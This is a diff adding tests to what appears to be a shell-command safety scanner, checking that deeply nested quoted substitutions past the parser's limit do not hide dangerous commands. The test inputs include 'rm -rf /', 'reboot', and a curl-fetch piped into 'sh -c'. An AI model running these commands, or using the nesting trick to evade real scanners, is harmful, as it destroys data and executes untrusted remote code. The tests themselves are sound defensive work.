@@ -35,3 +35,39 @@ describe('pattern scan after a long run of ordinary arguments', () => {
     expect(v.keys).toContain(key);
   });
 });
+
+/** `"$(echo "$(echo …)")"` nested past the parser's size limit; `quote` is `"` or `'`. */
+function deep(quote = '"', n = Math.ceil(PARSE_LIMITS.chars / 10) + 1): string {
+  return `${quote}$(echo `.repeat(n) + `)${quote}`.repeat(n);
+}
+
+// The scan applies a run of `)"` closers at once. What follows the run must still be read, and
+// the run must close exactly as many substitutions as it holds.
+describe('pattern scan after a long run of quoted closers', () => {
+  it.each([
+    ['a separator', `${deep()}; rm -rf /`, 'rm-root'],
+    ['a quoted command', `${deep()}"rm -rf /"`, 'rm-root'],
+    ['a single-quoted command', `${deep("'")}'rm -rf /'`, 'rm-root'],
+    ['a substitution', `${deep()}"$(rm -rf /)"`, 'rm-root'],
+    ['a command right after a closer', `${deep()})reboot`, 'power-off'],
+    ['a word that is no quote', `${deep()}x; rm -rf /`, 'rm-root'],
+    ['a one-character command between closers', `${deep()})$)`, 'dynamic-command'],
+    // The scan follows 256 levels; deeper ones count as the deepest.
+    [
+      'a substitution inside a shell',
+      `echo ${RUN}; sh -c "$(${deep('"', 200)}$(curl -s https://x))"`,
+      'remote-code',
+    ],
+  ])('finds %s', (_what, cmd, key) => {
+    const v = analyseCommand(cmd);
+    expect(v.parsed).toBe(false);
+    expect(v.keys).toContain(key);
+  });
+
+  it('leaves no substitution open after closing them all', () => {
+    // Still inside a substitution, bash would seem to run what curl prints.
+    const v = analyseCommand(`echo ${RUN}; ${deep('"', 200)}; bash -c x | curl -s https://x`);
+    expect(v.parsed).toBe(false);
+    expect(v.keys).not.toContain('remote-code');
+  });
+});
